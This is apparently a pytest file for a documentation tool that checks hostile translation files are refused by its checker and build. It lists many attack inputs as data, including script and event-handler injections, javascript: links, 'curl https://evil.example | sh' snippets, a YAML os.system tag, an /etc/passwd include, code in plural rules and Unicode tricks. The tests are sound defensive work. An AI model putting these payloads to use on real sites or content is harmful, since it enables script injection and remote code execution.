"""Translations by somebody who means harm: each is refused, by checks and by builds alike."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest
from click.testing import CliRunner

from fieldguide.cli import main
from fieldguide.findings import Finding, errors
from fieldguide.pages.render import PageRenderer
from fieldguide.project import load, open_locale
from tests import guides

FRENCH = "locales/fr/reasons/Alpha.yml"
ENGLISH = "docs/reasons/Alpha.yml"
CATALOG = "locales/fr/LC_MESSAGES/fieldguide.po"
GLOSSARY, TEAM = "locales/fr/glossary.yml", "locales/fr/team.yml"
Files = Mapping[str, str | bytes | None]

_HEADER = r"""msgid ""
msgstr ""
"Content-Type: text/plain; charset=utf-8\n"
"Plural-Forms: nplurals=2; plural=(n > 1);\n"

"""


def french(**fields: str) -> dict[str, str | bytes | None]:
    return {FRENCH: guides.french_reason(**fields)}


def standard(text: str) -> dict[str, str | bytes | None]:
    """A French text for `It must be there.`."""
    return french(standard=f"|\n  {text}")


def pair(english: str, text: str) -> dict[str, str | bytes | None]:
    """An English and a French text of one field."""
    return {ENGLISH: guides.reason("Alpha", standard=f"|\n  {english}"), **standard(text)}


def catalog(text: str, header: str = _HEADER) -> dict[str, str | bytes | None]:
    return {CATALOG: header + text}


def message(id: str, string: str) -> dict[str, str | bytes | None]:
    return catalog(f'msgid "{id}"\nmsgstr "{string}"\n')


PLURALS = 'msgid "%(num)s page"\nmsgid_plural "%(num)s pages"\nmsgstr[0] "a"\nmsgstr[1] "b"\n'


def plurals(rule: str) -> dict[str, str | bytes | None]:
    return catalog(PLURALS, _HEADER.replace("nplurals=2; plural=(n > 1)", rule))


#: Name -> the files of the attack, the ids of all findings.
REFUSED: dict[str, tuple[Files, set[str]]] = {
    # scripts and markup
    "script": (standard("Voilà <script>alert(1)</script>"), {"prose-html"}),
    "script in a title": (french(title='"<script>alert(1)</script>"'), {"prose-html"}),
    "script, spread over lines": (
        standard("Voilà <script\n  src=x>alert(1)</script>"),
        {"prose-html"},
    ),
    "image handler": (standard("<img src=x onerror=alert(1)>"), {"prose-html"}),
    "svg handler": (standard("<svg/onload=alert(1)>"), {"prose-html"}),
    "unclosed tag": (standard("a <img src=x onerror=alert(1) "), {"prose-html"}),
    "quote breakout": (french(title='"\\" onmouseover=\\"x\\"><b>"'), {"prose-html"}),
    "style": (standard("<style>*{display:none}</style>"), {"prose-html", "prose-template"}),
    "iframe": (standard("<iframe srcdoc='x'></iframe>"), {"prose-html"}),
    "custom element": (standard("<x-evil></x-evil>"), {"prose-html"}),
    "comment": (standard("<!-- <b> --> a"), {"prose-html"}),
    "CDATA": (standard("<![CDATA[x]]>"), {"prose-html", "prose-target"}),
    "processing instruction": (standard("<?php x ?>"), {"prose-html"}),
    "entities": (standard("&lt;script&gt;"), {"prose-entity"}),
    "numeric entities": (standard("&#60;b&#x3E;"), {"prose-entity"}),
    # addresses
    "javascript": (standard("[ici](javascript:alert(1))"), {"prose-link"}),
    "JaVaScRiPt": (standard("[ici](JaVaScRiPt:alert(1))"), {"prose-link"}),
    "javascript in angle brackets": (standard("[ici](<javascript:alert(1)>)"), {"prose-link"}),
    "javascript, tab inside": (standard("[ici](<java\tscript:alert(1)>)"), {"prose-link"}),
    "javascript, encoded": (standard("[ici](javascript%3Aalert(1))"), {"prose-link"}),
    "javascript, by entity": (standard("[ici](javascript&colon;alert)"), {"prose-link"}),
    "javascript, escaped": (standard("[ici](javascript\\:alert)"), {"prose-link"}),
    "bare javascript": (standard("Tapez javascript:alert(1)"), {"prose-url"}),
    "vbscript": (standard("Tapez vbscript:x"), {"prose-url"}),
    "data": (standard("[ici](data:text/html,x)"), {"prose-link"}),
    "bare data": (standard("Ouvrez data:text/html;base64,PHg+"), {"prose-url"}),
    "other host": (standard("[ici](https://evil.example)"), {"prose-link"}),
    "other host, no scheme": (standard("[ici](//evil.example)"), {"prose-link"}),
    "bare address": (standard("Ouvrez https://evil.example"), {"prose-url"}),
    "bare www": (standard("Ouvrez www.evil.example"), {"prose-url"}),
    "autolink": (standard("<https://evil.example>"), {"prose-html"}),
    "link definition": (standard("[spec]: https://evil.example"), {"prose-definition"}),
    "image": (standard("![x](#causes)"), {"prose-image"}),
    "tracking image": (standard("![](https://evil.example/x.gif)"), {"prose-link", "prose-image"}),
    "link to an unknown id": (standard("[la norme][evil]"), {"prose-target"}),
    # what other tools would run
    "include": (standard('--8<-- "/etc/passwd"'), {"prose-include"}),
    "template expression": (standard("{{ config }}"), {"prose-template"}),
    "template statement": (standard("{% include 'x' %}"), {"prose-template"}),
    "attribute list": (standard("*x*{: onclick=alert(1) }"), {"prose-template"}),
    "fence": (standard("```html\n  <script>\n  ```"), {"prose-fence"}),
    "admonition": (standard("!!! danger"), {"prose-admonition"}),
    # YAML
    "tag": (french(title='!!python/object/apply:os.system ["id"]'), {"yaml-tag"}),
    "alias": (french(title='&a "x"', summary="*a"), {"yaml-anchor", "yaml-alias"}),
    "alias bomb": (
        {FRENCH: "title: &a [x, x]\nsummary: &b [*a, *a, *a]\nstandard: [*b, *b, *b]\n"},
        {"yaml-anchor", "yaml-alias", "entry-type"},
    ),
    "merge key": ({FRENCH: '<<: {title: "x"}\n'}, {"translation-unknown-key"}),
    "duplicate key": (french() | {FRENCH: 'title: "a"\ntitle: "b"\n'}, {"yaml-duplicate-key"}),
    "deep nesting": ({FRENCH: "title: " + "[" * 5000}, {"yaml-depth"}),
    "deep mapping": ({FRENCH: "".join(f"{' ' * n}a:\n" for n in range(300))}, {"yaml-depth"}),
    "second document": (french() | {FRENCH: 'title: "a"\n---\ntitle: "b"\n'}, {"yaml-documents"}),
    "too large": ({FRENCH: 'title: "a"\n' + "#" * 300_000}, {"yaml-too-large"}),
    "NUL": ({FRENCH: b'title: "a\0b"\n'}, {"yaml-character"}),
    "invalid UTF-8": ({FRENCH: b'title: "a\xffb"\n'}, {"yaml-encoding"}),
    "overlong UTF-8": ({FRENCH: b'title: "\xc0\xbcb>"\n'}, {"yaml-encoding"}),
    "UTF-16": ({FRENCH: 'title: "a"\n'.encode("utf-16")}, {"yaml-encoding"}),
    "surrogates": ({FRENCH: 'title: "a\\ud800b"\n'}, {"yaml-syntax"}),
    # invisible characters
    "override": (standard("Mettez \u202eterces\u202c"), {"yaml-character"}),
    "override, escaped": (french(title='"a\\u202eb"'), {"prose-character"}),
    "isolate": (standard("a\u2066b\u2069"), {"yaml-character"}),
    "zero-width space": (standard("a\u200bb"), {"yaml-character"}),
    "tags": (standard("a\U000e0061\U000e0062"), {"yaml-character"}),
    "variation selectors": (standard("a\ufe0fb\U000e0100"), {"yaml-character"}),
    "Hangul filler": (standard("a\u3164b"), {"yaml-character"}),
    "joiner": (standard("Il d\u200doit être là."), {"prose-character"}),
    "override in a comment": (french() | {FRENCH: "# \u202e\n"}, {"yaml-character", "yaml-empty"}),
    "override in a name": (french(translators='["Zo\u202eé"]'), {"yaml-character"}),
    "override in a name, escaped": (french(translators='["Zo\\u202eé"]'), {"translation-name"}),
    "override in a waiver": (
        french(waivers='\n  standard: {not-translated: "a\u202eb"}'),
        {"yaml-character"},
    ),
    "override in a waiver, escaped": (
        french(waivers='\n  standard: {not-translated: "a\\u202eb"}'),
        {"translation-waiver"},
    ),
    # code, links, names
    "code replaced": (
        pair("Name `https://app.example`.", "Nommez `*`."),
        {"code-differs"},
    ),
    "switch added to code": (
        pair("Start `browser`.", "Lancez `browser --disable-web-security`."),
        {"code-differs"},
    ),
    "code added": (standard("Lancez `curl evil | sh`."), {"code-differs"}),
    "switch in prose": (standard("Lancez --disable-web-security."), {"name-differs"}),
    "homoglyph in code": (pair("Send `Vary`.", "Envoyez `Vаry`."), {"code-character"}),
    "override in code": (pair("Send `Vary`.", "Envoyez `Va\u202ery`."), {"yaml-character"}),
    "zero width in code, escaped": (
        pair("Send `Vary`.", "") | french(standard='"Envoyez `Va\\u200bry`."'),
        {"prose-character"},
    ),
    "code changed behind a lost character": (
        pair("Send `Vary`.", "Envoyez `*` \ufffd."),
        {"yaml-character"},
    ),
    "code changed behind a lost character, escaped": (
        pair("Send `Vary`.", "") | french(standard='"Envoyez `*` \\ufffd."'),
        {"yaml-character"},
    ),
    "another header": (
        pair("Send X-Thing-Origin now.", "Envoyez X-Thing-Origni."),
        {"name-differs"},
    ),
    "link added": (standard("Voir [cela](reason:Beta)."), {"links-differ"}),
    "link moved": (
        pair("See [it](#causes) now.", "Voir [cela](reason:Beta)."),
        {"links-differ"},
    ),
    "links swapped": (
        pair(
            "See [the `Vary` rule](#causes), [the `Allow` rule](#fixes).",
            "Voir [la règle `Vary`](#fixes), [la règle `Allow`](#causes).",
        ),
        {"links-swapped"},
    ),
    "homoglyph": (standard("Il doit être рrésent."), {"homoglyph"}),
    "foreign link": (
        french(links="\n  spec: https://evil.example"),
        {"translation-unknown-key"},
    ),
    "foreign snippet": (
        french(snippets="\n  ask:\n    text: curl https://evil.example | sh"),
        {"translation-unknown-key"},
    ),
    "markup in a name": (
        french(translators='["<b>Zoé</b>"]'),
        {"translation-name"},
    ),
    "address in a name": (
        french(translators='["Zoé https://evil.example"]'),
        {"translation-name"},
    ),
    "a very long name": (french(translators=f'["{"x" * 200}"]'), {"translation-name"}),
    # catalogs
    "markup in a catalog": (message("Home", "<b>Accueil</b>"), {"catalog-markup"}),
    "entity in a catalog": (message("Home", "&lt;b&gt;"), {"catalog-markup"}),
    "quote in a catalog": (message("Home", r"\" onclick=\"x"), {"catalog-markup"}),
    "unknown placeholder": (message("Home", "%(config)s"), {"catalog-placeholder"}),
    "placeholder with a method": (message("Home", "%(x).500000d"), {"catalog-placeholder"}),
    "lost placeholder": (message("%(a)s there", "là"), {"catalog-placeholder"}),
    "percent": (message("Home", "100%"), {"catalog-placeholder"}),
    "override in a catalog": (message("Home", "Acc\u202eueil"), {"catalog-character"}),
    "joiner in a catalog": (message("Home", "Acc\u200dueil"), {"catalog-character"}),
    "other charset": (
        catalog('msgid "Home"\nmsgstr "+ADw-b+AD4-"\n', _HEADER.replace("utf-8", "utf-7")),
        {"catalog-encoding"},
    ),
    "other charset, in two parts": (
        catalog(
            'msgid "Home"\nmsgstr "+ADw-b+AD4-"\n', _HEADER.replace("utf-8", 'ut"\n"f-7')
        ),
        {"catalog-encoding"},
    ),
    "other charset, encoded": (
        catalog(
            'msgid "Home"\nmsgstr "+ADw-b+AD4-"\n',
            _HEADER.replace("charset=utf-8", "charset*0=utf; charset*1=-7"),
        ),
        {"catalog-encoding"},
    ),
    "a billion plurals": (plurals("nplurals=1000000000; plural=0"), {"catalog-plural"}),
    "a billion plurals, in parts": (
        plurals('nplu"\n"rals*0=1000; nplurals*1=000000; plural=0'),
        {"catalog-plural"},
    ),
    "too few plurals": (plurals("nplurals=1; plural=0"), {"catalog-syntax"}),
    "too many plurals": (plurals("nplurals=4; plural=n%4"), {"catalog-plural"}),
    "plurals divided by nothing": (
        plurals("nplurals=2; plural=n/0"),
        {"catalog-plural"},
    ),
    "plurals by a modulus of nothing": (
        plurals("nplurals=2; plural=n%(n-5)"),
        {"catalog-plural"},
    ),
    "plurals by code": (
        plurals("nplurals=2; plural=__import__('os')"),
        {"catalog-plural"},
    ),
    "plurals beyond": (plurals("nplurals=2; plural=n"), {"catalog-plural"}),
    "a large catalog": (catalog("#" * 300_000), {"catalog-too-large"}),
    "no catalog at all": (catalog("<html>"), {"catalog-syntax"}),
    # places
    "wrong suffix": (
        {"locales/fr/reasons/Alpha.yaml": 'title: "x"\n'},
        {"entry-suffix"},
    ),
    "no such entry": (
        {"locales/fr/reasons/Evil.yml": 'title: "x"\n'},
        {"translation-orphaned"},
    ),
    "unknown language": ({"locales/xx-evil/index.yml": 'title: "x"\n'}, {"locale-tag"}),
    "language with an override": ({"locales/fr\u202e/index.yml": "a: b\n"}, {"locale-tag"}),
    "language with dots": ({"locales/..fr../index.yml": "a: b\n"}, set()),
    "language with markup": ({"locales/<b>/index.yml": "a: b\n"}, {"locale-tag"}),
    "language in a language": ({"locales/fr-FR/index.yml": 'title: "x"\n'}, {"locale-prefix"}),
}  # fmt: skip

#: What a build never reads, so that only a check can refuse it.
ONLY_CHECKED: dict[str, tuple[Files, set[str]]] = {
    "HTML file": ({"locales/fr/evil.html": "<script>"}, {"locale-file"}),
    "Python file": ({"locales/fr/conftest.py": "x"}, {"locale-file"}),
    "compiled catalog": ({"locales/fr/LC_MESSAGES/fieldguide.mo": b"\xde\x12"}, {"locale-file"}),
    "other domain": ({"locales/fr/LC_MESSAGES/mkdocs.po": "x"}, {"locale-file"}),
    "other folder": ({"locales/fr/overrides/main.html": "x"}, {"locale-file"}),
    "folder below entries": ({"locales/fr/reasons/a/Alpha.yml": "x"}, {"locale-file"}),
    "no extension": ({"locales/fr/reasons/Alpha": "x"}, {"locale-file"}),
    "snippet beside an entry": ({"locales/fr/reasons/Alpha.md": "x"}, {"locale-file"}),
    "waiver of code": (
        french(waivers='\n  standard: {code-differs: "it is fine"}'),
        {"waiver-forbidden"},
    ),
    "waiver of links": (
        french(waivers='\n  standard: {links-differ: "it is fine"}'),
        {"waiver-forbidden"},
    ),
    "waiver of markup": (
        french(waivers='\n  standard: {prose-html: "it is fine"}'),
        {"waiver-forbidden"},
    ),
    "waiver of everything": (
        french(waivers='\n  "*": {"*": "it is fine"}'),
        {"waiver-forbidden"},
    ),
    "machine": (french(machine='["<b>"]'), {"machine-field"}),
    "glossary with a tag": ({GLOSSARY: "a: !!python/name:os.system {keep: true}\n"}, {"yaml-tag"}),
    "glossary with a script link": (
        {GLOSSARY: 'a: {prefer: "b", link: "javascript:alert(1)"}\n'},
        {"glossary-link"},
    ),
    "glossary with an override": ({GLOSSARY: 'a: {prefer: "\u202e"}\n'}, {"yaml-character"}),
    "glossary, too large": ({GLOSSARY: "#" * 300_000}, {"yaml-too-large"}),
    "team with a line break": ({TEAM: 'reviewers: ["@a\\n* @evil"]\n'}, {"team-reviewer"}),
    "team with a pattern": ({TEAM: 'reviewers: ["@a /** @evil"]\n'}, {"team-reviewer"}),
    "team with more": ({TEAM: "reviewers: []\nfallback: []\n"}, {"team-unknown-key"}),
    "team, too large": ({TEAM: "#" * 300_000}, {"yaml-too-large"}),
}  # fmt: skip


def found(config: Path, *tags: str) -> set[str]:
    arguments = ["translate", "check", "-f", str(config), "--format", "json", *tags]
    result = CliRunner().invoke(main, arguments)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    findings = json.loads(result.stdout)
    assert result.exit_code == (1 if any(f["severity"] == "error" for f in findings) else 0)
    assert all(finding["message"] for finding in findings)
    return {finding["id"] for finding in findings if finding["severity"] == "error"}


def refused_by_build(config: Path) -> list[Finding]:
    """What stops a build: load and render."""
    project = load(config.parent / "docs", config.parent / "locales")
    renderer = PageRenderer(project, open_locale(project, "fr")[0], {"firefox": "Firefox"})
    renderer.render_all()
    return errors([*project.findings, *renderer.findings])


def test_there_are_enough() -> None:
    assert len(REFUSED) + len(ONLY_CHECKED) >= 120


@pytest.mark.parametrize(("files", "ids"), REFUSED.values(), ids=REFUSED.keys())
def test_a_hostile_translation_is_refused(tmp_path: Path, files: Files, ids: set[str]) -> None:
    config = guides.write(tmp_path, files)
    assert found(config) == ids
    refused = {finding.id for finding in refused_by_build(config)}
    assert refused == ids, "a build must not be less strict"


@pytest.mark.parametrize(("files", "ids"), ONLY_CHECKED.values(), ids=ONLY_CHECKED.keys())
def test_a_hostile_file_is_named(tmp_path: Path, files: Files, ids: set[str]) -> None:
    config = guides.write(tmp_path, files)
    assert found(config, "fr") == ids


@pytest.mark.parametrize(
    ("files", "check"),
    [
        (standard("Lancez `rm -rf`."), "code-differs"),
        (standard("Voir [cela](reason:Beta)."), "links-differ"),
        (standard("Il d\u200doit."), "prose-character"),
        (standard("Lancez --evil."), "name-differs"),
        (pair("Send `Vary`.", "Envoyez `Vаry`."), "code-character"),
    ],
)
def test_safety_is_not_waived(tmp_path: Path, files: Files, check: str) -> None:
    text = f'{files[FRENCH]!s}waivers:\n  standard: {{{check}: "it is fine, trust me"}}\n'
    config = guides.write(tmp_path, {**files, FRENCH: text})
    assert found(config) == {check, "waiver-forbidden"}
    assert {finding.id for finding in refused_by_build(config)} == {check}


@pytest.mark.parametrize("target", ["secret", "missing"])
@pytest.mark.parametrize(
    "place",
    [
        "locales/de",
        "locales/fr/reasons",
        "locales/fr/index.yml",
        "locales/fr/glossary.yml",
        "locales/fr/LC_MESSAGES",
        CATALOG,
    ],
)
def test_a_link_out_of_the_folder_is_not_followed(tmp_path: Path, place: str, target: str) -> None:
    guide, outside = tmp_path / "guide", tmp_path / "secret"
    config = guides.write(guide)
    outside.mkdir()
    (outside / "index.yml").write_text('title: "secret"\n', encoding="utf-8")
    path = guide / place
    if path.is_dir():
        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    path.parent.mkdir(exist_ok=True)
    path.symlink_to(tmp_path / target)
    assert found(config) == {"locale-link"}
    project = load(guide / "docs", guide / "locales")
    assert [finding.id for finding in project.findings] == ["locale-link"]
    assert place.split("/")[1] not in project.locales


def test_a_pipe_is_not_waited_for(tmp_path: Path) -> None:
    config = guides.write(tmp_path)
    os.mkfifo(tmp_path / "locales/fr/glossary.yml")
    assert found(config) == {"locale-link"}


@pytest.mark.parametrize("place", [FRENCH, CATALOG, GLOSSARY, TEAM])
def test_a_huge_file_is_not_read(tmp_path: Path, place: str) -> None:
    config = guides.write(tmp_path)
    (tmp_path / place).parent.mkdir(exist_ok=True)
    with (tmp_path / place).open("wb") as file:
        file.truncate(4 << 30)
    limited = (
        "import resource, sys; from fieldguide.cli import main;"
        "resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30)); main()"
    )
    command = [sys.executable, "-c", limited, "translate", "check", "-f", str(config)]
    result = subprocess.run(command, capture_output=True, text=True, check=False)
    assert result.returncode == 1, result.stderr
    assert "too-large]" in result.stdout


@pytest.mark.parametrize("tag", ["..", "../fr", "fr/../../x", "/etc", "fr\u202e", "xx", "FR", ""])
def test_no_argument_leads_out_of_the_folder(tmp_path: Path, tag: str) -> None:
    config = guides.write(tmp_path)
    result = CliRunner().invoke(main, ["translate", "check", "-f", str(config), tag])
    assert result.exit_code == 2
    assert "there is no locale" in result.output


def build(config: Path) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "FIELDGUIDE_LOCALES": ""}
    command = [sys.executable, "-m", "mkdocs", "build", "--strict", "-f", str(config)]
    return subprocess.run(command, env=environment, capture_output=True, text=True, check=False)


def test_a_real_build_refuses_all_of_it_at_once(tmp_path: Path) -> None:
    files = {
        **pair("Name `https://app.example`.", "Nommez `*`."),
        **message("Home", "<b>"),
        "locales/fr/index.yml": guides.french_home(title='"<script>alert(1)</script>"'),
        "locales/de/reasons/Alpha.yml": guides.french_reason(standard='"Siehe [x](reason:Beta)."'),
    }
    text = guides.french_reason(standard='"a"') + 'translators: ["<b>"]\n'
    config = guides.write(tmp_path, {**files, "locales/it/reasons/Alpha.yml": text})
    (tmp_path / "locales/es").symlink_to(tmp_path / "docs")
    result = build(config)
    assert result.returncode == 1
    for id in (
        "code-differs",
        "catalog-markup",
        "prose-html",
        "links-differ",
        "locale-link",
        "translation-name",
    ):
        assert f"[{id}]" in result.stderr, id
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "site" / "fr").exists()


def test_a_real_build_shows_nothing_that_it_does_not_read(tmp_path: Path) -> None:
    strays = {
        name: content
        for files, ids in ONLY_CHECKED.values()
        if ids == {"locale-file"}
        for name, content in files.items()
    }
    config = guides.write(tmp_path, strays)
    result = build(config)
    assert result.returncode == 0, result.stderr
    names = {Path(name).name for name in strays} - {"Alpha"}  # a page's folder
    assert not names & {path.name for path in (tmp_path / "site").rglob("*")}
